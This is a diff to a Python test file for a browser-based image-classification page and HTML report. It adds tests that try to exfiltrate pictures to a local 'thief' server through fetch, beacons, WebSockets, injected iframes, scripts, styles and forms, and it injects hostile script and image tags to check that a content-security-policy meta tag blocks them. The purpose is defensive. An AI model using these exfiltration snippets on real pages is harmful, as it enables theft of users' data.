@@ -2,6 +2,7 @@
 
 import io
 import json
+import re
 import shutil
 import subprocess
 import threading
@@ -16,6 +17,8 @@ import pyarrow.parquet as pq
 import pytest
 from conftest import Run, make_image
 from PIL import Image
+
+from clipcid_cli.formats.report import render_report
 
 BROWSERS = ("chromium", "chromium-browser", "google-chrome")
 NAMES = ["blue circle", "l'été", "red square"]
@@ -46,6 +49,24 @@ for (const name of pictures) {
   const rows = [...page.querySelectorAll("#answers tbody tr")];
   seen[name] = [status.textContent, ...rows.map(row => [row.cells[0].textContent, +row.cells[3].textContent])];
 }
+// What a script in the page could try with a picture; each fails, or none has an effect.
+const thief = new URLSearchParams(location.search).get("thief"), { contentWindow: window_ } = frame;
+const tries = {
+  fetch: () => window_.fetch(`${thief}/fetch`, { method: "POST", body: "picture", mode: "no-cors" }),
+  beacon: () => window_.navigator.sendBeacon(`${thief}/beacon`, "picture"),
+  socket: () => new window_.WebSocket(`${thief.replace("http", "ws")}/socket`),
+  image: () => Object.assign(new window_.Image(), { src: `${thief}/image` }),
+  frame: () => page.body.insertAdjacentHTML("beforeend", `<iframe src="${thief}/frame"></iframe>`),
+  style: () => page.body.insertAdjacentHTML("beforeend", `<style>@import "${thief}/style";</style>`),
+  script: () => page.body.append(Object.assign(page.createElement("script"), { textContent: `fetch("${thief}/script")` })),
+  module: () => page.body.append(Object.assign(page.createElement("script"), { type: "module", src: `${thief}/module` })),
+  form: () => {
+    page.body.insertAdjacentHTML("beforeend", `<form action="${thief}/form" target="_blank"><input name="picture"></form>`);
+    page.forms[0].submit();
+  },
+};
+for (const attempt of Object.values(tries)) try { await attempt(); } catch {}
+await new Promise(resolve => setTimeout(resolve, 1000));
 await fetch("/", { method: "POST", body: JSON.stringify(seen) });
 </script>"""
 
@@ -62,14 +83,27 @@ class Host(SimpleHTTPRequestHandler):
         self.server.received.append(json.loads(body))  # type: ignore[attr-defined]
         self.server.done.set()  # type: ignore[attr-defined]
 
+    def do_GET(self) -> None:
+        self.server.asked.append(self.path)  # type: ignore[attr-defined]
+        super().do_GET()
+
     def log_message(self, *_: Any) -> None:
         """Say nothing."""
 
 
+class Thief(Host):
+    """Takes whatever comes."""
+
+    def do_POST(self) -> None:
+        self.server.asked.append(self.path)  # type: ignore[attr-defined]
+        self.send_response(204)
+        self.end_headers()
+
+
 @contextmanager
-def serve(folder: Path) -> Iterator[ThreadingHTTPServer]:
-    with ThreadingHTTPServer(("127.0.0.1", 0), partial(Host, directory=str(folder))) as server:
-        server.received, server.done = [], threading.Event()  # type: ignore[attr-defined]
+def serve(folder: Path, host: type[Host] = Host) -> Iterator[ThreadingHTTPServer]:
+    with ThreadingHTTPServer(("127.0.0.1", 0), partial(host, directory=str(folder))) as server:
+        server.received, server.asked, server.done = [], [], threading.Event()  # type: ignore[attr-defined]
         thread = threading.Thread(target=server.serve_forever)
         thread.start()
         try:
@@ -79,8 +113,14 @@ def serve(folder: Path) -> Iterator[ThreadingHTTPServer]:
             thread.join()
 
 
-def visit(browser: str, folder: Path, labels: list[str], pictures: list[str], profile: Path) -> dict[str, Any]:
-    """Open the page of a folder in a browser, drop pictures on it, and return what it answers of each."""
+def visit(
+    browser: str, folder: Path, labels: list[str], pictures: list[str], profile: Path
+) -> tuple[dict[str, Any], list[str]]:
+    """Open the page of a folder in a browser, drop pictures on it, and try to send them to another server.
+
+    Returns:
+        What the page answers of each picture, and what the other server was asked for.
+    """
     (folder / "visit.html").write_text(VISITOR)
     (folder / "visit.json").write_text(json.dumps({"labels": labels, "pictures": pictures}))
     command = [
@@ -91,15 +131,15 @@ def visit(browser: str, folder: Path, labels: list[str], pictures: list[str], pr
         f"--user-data-dir={profile}",
         "--remote-debugging-port=0",
     ]
-    with serve(folder) as server:
-        url = f"http://127.0.0.1:{server.server_port}/visit.html"
+    with serve(folder) as server, serve(profile, Thief) as thief:
+        url = f"http://127.0.0.1:{server.server_port}/visit.html?thief=http://127.0.0.1:{thief.server_port}"
         with subprocess.Popen([*command, url], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) as process:
             try:
                 assert server.done.wait(120), "the browser did not come back"  # type: ignore[attr-defined]
             finally:
                 process.terminate()
         (seen,) = server.received  # type: ignore[attr-defined]
-    return dict(seen)
+        return dict(seen), list(thief.asked)  # type: ignore[attr-defined]
 
 
 @pytest.mark.slow  # starts a browser, and npm fetches 33 MB the first time
@@ -127,10 +167,45 @@ def test_the_page_shows_the_scores_of_eval(
     }
     for path in pictures.values():
         shutil.copy(path, site)
-    seen = visit(browser, site, NAMES, [path.name for path in pictures.values()], tmp_path_factory.mktemp("profile"))
+    names = [path.name for path in pictures.values()]
+    seen, stolen = visit(browser, site, NAMES, names, tmp_path_factory.mktemp("profile"))
+    assert not stolen
     for row in pq.read_table(answers).to_pylist():
         (name,) = (path.name for key, path in pictures.items() if key.rsplit(".", 1)[0] == row["key"])
         status, *shown = seen[name]
         assert status == f"Most like: {NAMES[row['predicted']]}"
         expected = {NAMES[place]: score for place, score in zip(row["top"], row["scores"], strict=True)}
         assert dict(shown) == pytest.approx(expected, abs=1e-3)
+
+
+@pytest.mark.slow  # starts a browser
+def test_a_report_loads_and_sends_nothing(tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
+    browser = next((found for name in BROWSERS if (found := shutil.which(name))), None)
+    if browser is None:
+        pytest.skip("needs a Chromium on the PATH")
+    page = render_report("eval_zeroshot.html", tables=[], details=[])
+    asked = {}
+    for name in ("with", "without"):
+        with serve(tmp_path, Thief) as thief:
+            url = f"http://127.0.0.1:{thief.server_port}"
+            hostile = (
+                f'<script>fetch("{url}/script")</script><img src="{url}/image"><link rel=stylesheet href={url}/css>'
+            )
+            shown = page.replace("</body>", f"{hostile}</body>")
+            if name == "without":
+                shown = re.sub("<meta http-equiv.*>", "", shown)
+            report = tmp_path / f"{name}.html"
+            report.write_text(shown)
+            profile = tmp_path_factory.mktemp("profile")
+            command = [
+                browser,
+                "--headless",
+                "--no-sandbox",
+                "--disable-gpu",
+                f"--user-data-dir={profile}",
+                "--dump-dom",
+            ]
+            done = subprocess.run([*command, report.as_uri()], capture_output=True, text=True, timeout=120, check=True)
+            assert "Zero-shot evaluation" in done.stdout
+            asked[name] = sorted(thief.asked)  # type: ignore[attr-defined]
+    assert asked == {"with": [], "without": ["/css", "/image", "/script"]}
